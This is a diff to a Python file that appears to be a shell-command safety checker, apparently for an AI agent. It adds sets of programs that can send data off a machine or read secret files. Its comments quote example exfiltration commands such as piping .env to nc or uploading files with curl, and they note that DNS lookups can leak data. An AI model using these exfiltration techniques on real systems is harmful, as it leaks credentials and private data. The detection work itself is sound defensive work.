@@ -69,6 +69,8 @@ CODE_RUNNERS = SCRIPT_READERS | frozenset(INTERPRETERS) | frozenset({"pwsh"})
 PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "bun"})
 # Task runners that run package.json scripts by name (`run-s db:*`) or shell commands (`concurrently "a" "b"`).
 TASK_RUNNERS = frozenset({"run-s", "run-p", "npm-run-all", "concurrently", "turbo", "lerna", "nx"})
+# Python package installers (`pip uninstall`, `pipx uninstall`, `uv tool uninstall`, `uv pip uninstall`).
+PYTHON_INSTALLERS = frozenset({"pip", "pip3", "pipx", "uv", "conda", "mamba", "micromamba"})
 MAKES = frozenset({"make", "gmake"})
 JUSTS = frozenset({"just"})
 
@@ -92,6 +94,33 @@ WINDOWS_SHELLS = frozenset({"pwsh", "pwsh.exe", "powershell", "powershell.exe", 
 POWERSHELLS = frozenset({"pwsh", "pwsh.exe", "powershell", "powershell.exe"})  # run .ps1 files (`-File x.ps1`)
 REMOTE_SHELLS = frozenset({"ssh", "autossh", "mosh"})
 
+# Programs that send their stdin to a peer (`cat .env | nc host 9000`, `ssh host 'cat > x' < key`).
+STREAM_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "ssh", "autossh", "openssl", "mail", "mailx",
+                            "sendmail", "mutt"})
+# HTTP clients that can send a body or an upload (`curl -d @file`, `wget --post-file`, `http POST url @file`).
+HTTP_SENDERS = frozenset({"curl", "wget", "wget2", "http", "https", "httpie", "xh", "xhs", "curlie"})
+# Programs that copy files to another host (`scp f host:`, `rsync f host:/x`).
+REMOTE_COPIERS = frozenset({"scp", "sftp", "rsync"})
+# Programs that resolve a host name: a name built from data leaks the data to the name's DNS server.
+NAME_RESOLVERS = frozenset({"nslookup", "dig", "host", "ping", "ping6", "drill", "traceroute", "tracepath", "kdig",
+                            "delv", "getent", "whois", "resolvectl", "mtr"})
+# Cloud CLIs that copy a local file to a bucket (`aws s3 cp f s3://b/`, `gsutil cp`, `rclone copy f remote:`).
+CLOUD_COPIERS = frozenset({"aws", "awslocal", "gsutil", "gcloud", "az", "rclone", "s3cmd", "mc"})
+# ---- secrets
+# Every program that can carry data off the machine (the cheap guard before the secret flow is traced).
+SECRET_SENDERS = (HTTP_SENDERS | STREAM_SENDERS | REMOTE_COPIERS | NAME_RESOLVERS | CLOUD_COPIERS
+                  | frozenset({"gh", "glab", "git", "pastebinit"}))
+# Programs that print the text of the files they are given (or of stdin): a secret file read by one of these
+# enters whatever reads its output (the model's context, a pipe, a file).
+CONTENT_READERS = frozenset({"cat", "tac", "head", "tail", "less", "more", "most", "bat", "batcat", "nl", "grep",
+                             "egrep", "fgrep", "rg", "ag", "ack", "sed", "gsed", "cut", "sort", "uniq", "base64",
+                             "base32", "basenc", "xxd", "od", "hexdump", "hd", "strings", "jq", "yq", "tr", "paste",
+                             "column", "fold", "fmt", "pr", "diff", "comm", "join", "iconv", "read", "dd", "tee",
+                             "view", "awk", "gawk", "mawk", "nawk", "envsubst"})
+# Programs whose first operand is a pattern or a program, not a file.
+PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "gsed", "awk", "gawk", "mawk", "nawk"})
+# Programs that copy or pack a file into another one (the copy holds the secret too).
+FILE_COPIERS = frozenset({"cp", "mv", "install", "ln", "tar", "gtar", "bsdtar", "zip", "7z", "gzip", "base64", "rsync"})
 # ---- containers, clusters, infrastructure
 
 CONTAINER_ENGINES = frozenset({"docker", "podman", "nerdctl", "docker-compose", "podman-compose"})
